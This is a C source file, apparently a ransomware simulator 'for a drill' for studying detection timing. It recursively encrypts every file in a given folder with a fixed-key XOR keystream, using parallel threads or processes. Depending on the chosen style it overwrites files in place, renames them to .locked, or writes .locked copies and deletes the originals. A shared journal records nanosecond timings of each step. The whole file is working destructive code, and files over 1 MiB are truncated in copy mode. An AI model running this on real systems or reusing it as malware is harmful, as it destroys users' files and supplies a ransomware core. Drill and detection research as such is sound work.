// ransomware STYLE ORDER WORKERS KIND FOLDER JOURNAL: encrypts every file of a folder, for a drill.
//   STYLE    overwrite: in place; copy: reads, writes NAME.locked, unlinks; rename: to NAME.locked, then in place
//   ORDER    sorted, reverse, or listed as readdir(3) gives them
//   WORKERS  so many take files from one list; KIND: threads or processes
//   JOURNAL  a file in memory that tells what was done when, whatever becomes of this program:
//            16 times the last step of a worker, then when each file was begun; CLOCK_REALTIME in ns.
//            JOURNAL.names has the files in that order.
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <dirent.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MOST_FILES 8192
#define MOST_WORKERS 16
#define ROOM (1 << 20)

static struct {
	volatile int64_t last_step[MOST_WORKERS];
	volatile int64_t begun[MOST_FILES];
} *journal;
static volatile int *next_file;
static char *files[MOST_FILES];
static int count;
static const char *style, *order;

static int64_t now_ns(void)
{
	struct timespec time;
	clock_gettime(CLOCK_REALTIME, &time);
	return time.tv_sec * 1000000000LL + time.tv_nsec;
}

static int by_name(const void *one, const void *other)
{
	int result = strcmp(*(char *const *)one, *(char *const *)other);
	return strcmp(order, "reverse") ? result : -result;
}

static void list(const char *folder)
{
	DIR *stream = opendir(folder);
	struct dirent *entry;
	while (stream && (entry = readdir(stream))) {
		char *path;
		if (!strcmp(entry->d_name, ".") || !strcmp(entry->d_name, ".."))
			continue;
		if (asprintf(&path, "%s/%s", folder, entry->d_name) < 0)
			exit(1);
		if (entry->d_type == DT_DIR)
			list(path);
		else if (count < MOST_FILES)
			files[count++] = path;
	}
	if (stream)
		closedir(stream);
}

static void encrypt(char *bytes, long length)
{
	uint64_t key = 0x9e3779b97f4a7c15;
	for (long at = 0; at < length; at++) {
		key ^= key << 13, key ^= key >> 7, key ^= key << 17;
		bytes[at] ^= (char)key;
	}
}

/** Before every system call. */
static void step(int worker)
{
	journal->last_step[worker] = now_ns();
}

static void in_place(int worker, const char *path, char *bytes)
{
	step(worker);
	int fd = open(path, O_RDWR);
	if (fd < 0)
		return;
	step(worker);
	long length = read(fd, bytes, ROOM);
	encrypt(bytes, length);
	step(worker);
	if (length > 0 && pwrite(fd, bytes, length, 0) < 0)
		perror("pwrite");
	step(worker);
	close(fd);
}

static void into_copy(int worker, const char *path, const char *locked, char *bytes)
{
	step(worker);
	int fd = open(path, O_RDONLY);
	if (fd < 0)
		return;
	step(worker);
	long length = read(fd, bytes, ROOM);
	close(fd);
	encrypt(bytes, length);
	step(worker);
	int to = open(locked, O_WRONLY | O_CREAT | O_TRUNC, 0600);
	step(worker);
	if (to < 0 || write(to, bytes, length) != length)
		return;
	close(to);
	step(worker);
	unlink(path);
}

static void *work(void *which)
{
	int worker = (int)(intptr_t)which;
	char *bytes = malloc(ROOM), locked[4096];
	for (;;) {
		int at = __atomic_fetch_add(next_file, 1, __ATOMIC_SEQ_CST);
		if (at >= count)
			return NULL;
		snprintf(locked, sizeof locked, "%s.locked", files[at]);
		journal->begun[at] = now_ns();
		if (!strcmp(style, "copy")) {
			into_copy(worker, files[at], locked, bytes);
		} else if (!strcmp(style, "rename")) {
			step(worker);
			if (!rename(files[at], locked))
				in_place(worker, locked, bytes);
		} else {
			in_place(worker, files[at], bytes);
		}
		step(worker);
	}
}

static void write_names(const char *path)
{
	char name[4096];
	snprintf(name, sizeof name, "%s.names", path);
	FILE *names = fopen(name, "w");
	for (int at = 0; names && at < count; at++)
		fprintf(names, "%s\n", files[at]);
	if (!names || fclose(names))
		exit(1);
}

int main(int words_count, char **words)
{
	if (words_count != 7)
		return 2;
	style = words[1], order = words[2];
	int workers = atoi(words[3]), are_threads = !strcmp(words[4], "threads");
	if (workers < 1 || workers > MOST_WORKERS)
		return 2;
	list(words[5]);
	if (strcmp(order, "listed"))
		qsort(files, count, sizeof *files, by_name);
	write_names(words[6]);
	int fd = open(words[6], O_RDWR | O_CREAT, 0600);
	if (fd < 0 || ftruncate(fd, sizeof *journal))
		return 1;
	journal = mmap(NULL, sizeof *journal, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	next_file = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (journal == MAP_FAILED || next_file == MAP_FAILED)
		return 1;
	pthread_t threads[MOST_WORKERS];
	for (intptr_t worker = 1; worker < workers; worker++) {
		if (are_threads) {
			if (pthread_create(&threads[worker], NULL, work, (void *)worker))
				return 1;
		} else if (fork() == 0) {
			work((void *)worker);
			return 0;
		}
	}
	work((void *)0);
	for (int worker = 1; are_threads && worker < workers; worker++)
		pthread_join(threads[worker], NULL);
	while (!are_threads && wait(NULL) > 0)
		;
	return 0;
}
